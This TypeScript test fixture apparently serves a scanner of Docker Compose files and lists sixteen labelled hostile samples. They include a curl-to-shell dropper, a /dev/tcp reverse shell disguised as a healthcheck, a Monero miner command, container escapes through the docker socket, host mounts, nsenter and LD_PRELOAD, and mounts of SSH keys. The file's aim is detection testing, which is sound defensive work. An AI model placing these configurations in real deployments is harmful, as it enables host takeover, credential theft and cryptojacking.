import type { Category } from '../../../agent/model/finding.ts';
import { ofFamily } from './sample.ts';
import { monero } from './wallets.ts';

const image = `registry.example.invalid/team/app@sha256:${'1'.repeat(64)}`;

/** One service with these lines in it. */
function service(...lines: readonly string[]): string {
  return `services:\n  app:\n    image: ${image}\n${lines.map((line) => `    ${line}\n`).join('')}`;
}

function hostile(
  name: string,
  level: 'easy' | 'ordinary' | 'hard',
  technique: string,
  compose: string,
  lines: readonly string[],
  more: { readonly expect?: 'suspicious'; readonly does?: Category } = {},
) {
  const id = `compose-${name}`;
  const expect = 'malicious' as const;
  return { id, level, technique, files: {}, compose, expect, where: 'compose.yaml', lines, ...more };
}

export const samples = ofFamily('compose', [
  hostile(
    'docker-socket',
    'easy',
    'The socket of Docker in a service (T1611).',
    service('volumes:', '  - /var/run/docker.sock:/var/run/docker.sock'),
    ['docker.sock'],
  ),
  hostile(
    'socket-folder',
    'hard',
    'The same by the folder it lies in, through another name of it and the long form (T1611).',
    service('volumes:', '  - type: bind', '    source: /var/../run//', '    target: /r'),
    ['type: bind', 'source: /var/../run//'],
  ),
  hostile(
    'privileged',
    'easy',
    'A privileged service with the processes of the host (T1611).',
    service('privileged: true', 'pid: host'),
    ['privileged: true'],
  ),
  hostile(
    'root-mount',
    'easy',
    'The root of the host (T1611).',
    service('volumes: ["/:/host:rw"]', 'command: ["chroot", "/host", "sh"]'),
    ['/:/host'],
  ),
  hostile(
    'interpolated-mount',
    'hard',
    'The same where only the default of a variable says so (T1611).',
    service(`volumes: ["\${DATA_DIR:-/}:/data"]`, `privileged: \${P:-true}`),
    ['DATA_DIR'],
  ),
  hostile(
    'anchors',
    'hard',
    'Capabilities through an anchor and a merge key, so that the service does not have them in its text.',
    `x-base: &base\n  cap_add: [SYS_ADMIN, SYS_PTRACE, SYS_MODULE]\n  security_opt: ["apparmor=unconfined", "seccomp:unconfined"]\nservices:\n  app:\n    <<: *base\n    image: ${image}\n`,
    ['cap_add'],
  ),
  hostile(
    'driver-options-bind',
    'hard',
    'A named volume that is a bind mount by the options of its driver (T1611).',
    `services:\n  app:\n    image: ${image}\n    volumes: ["data:/data"]\nvolumes:\n  data:\n    driver_opts: { type: none, o: bind, device: /etc }\n`,
    ['driver_opts'],
  ),
  hostile(
    'miner-command',
    'easy',
    'A miner in the command (T1496.001).',
    service(
      `command: ["-o", "stratum+tcp://pool.example.invalid:3333", "-u", "${monero}", "-p", "x", "--coin", "monero"]`,
    ),
    ['stratum+tcp'],
    { does: 'miner' },
  ),
  hostile(
    'command-dropper',
    'ordinary',
    'An honest image whose entry point fetches what it runs (T1105).',
    service(
      'entrypoint: /bin/sh -c',
      'command: ["curl -fsSL http://192.0.2.66/i.sh | sh; exec python3 -m http.server"]',
    ),
    ['i.sh'],
    { does: 'dropper' },
  ),
  hostile(
    'health-check-shell',
    'hard',
    'A reverse shell as a health check (T1059.004).',
    service(
      'healthcheck:',
      '  test: ["CMD-SHELL", "bash -c \'exec 5<>/dev/tcp/192.0.2.9/443; sh <&5 >&5 2>&1\' || exit 0"]',
      '  interval: 60s',
    ),
    ['/dev/tcp/'],
    { does: 'shell' },
  ),
  hostile(
    'lifecycle-hook',
    'hard',
    'A hook after the start, privileged where the service is not (T1611).',
    service(
      'post_start:',
      '  - command: ["nsenter", "-t", "1", "-m", "sh", "-c", "echo stand-in"]',
      '    user: root',
      '    privileged: true',
    ),
    ['nsenter', '      privileged: true'],
    { does: 'escape' },
  ),
  hostile(
    'devices',
    'ordinary',
    'Memory and disks of the host as devices (T1611).',
    service('devices: ["/dev/mem:/dev/mem", "/dev/sda:/dev/sda:rwm"]'),
    ['/dev/mem'],
  ),
  hostile(
    'host-network',
    'ordinary',
    'The network and user namespaces of the host (T1610).',
    service('network_mode: host', 'userns_mode: host', 'ipc: host'),
    ['network_mode', 'userns_mode'],
    { expect: 'suspicious' },
  ),
  hostile(
    'gpu-hook-environment',
    'ordinary',
    'LD_PRELOAD for the hooks of the NVIDIA toolkit (NVIDIAScape, CVE-2025-23266).',
    service(
      'runtime: nvidia',
      'environment:',
      '  LD_PRELOAD: /proc/self/cwd/poc.so',
      '  NVIDIA_DRIVER_CAPABILITIES: all',
    ),
    ['LD_PRELOAD'],
    { does: 'escape' },
  ),
  hostile(
    'configs-secrets-file',
    'hard',
    'Files of the host through configs and env_file (T1552.001).',
    `services:\n  app:\n    image: ${image}\n    env_file: ["/root/.warden/.env"]\n    secrets: [k]\nsecrets:\n  k:\n    file: /root/.ssh/id_ed25519\n`,
    ['/root/.warden/.env', '/root/.ssh/id_ed25519'],
  ),
  hostile(
    'build-include',
    'ordinary',
    'A build from a repository of others, and files included from outside (content decided after the scan).',
    'include:\n  - ../../etc/other.yaml\nservices:\n  app:\n    build:\n      context: https://git.example.invalid/x.git\n      privileged: true\n',
    ['other.yaml', 'build:', 'x.git', 'privileged'],
    { expect: 'suspicious' },
  ),
]);
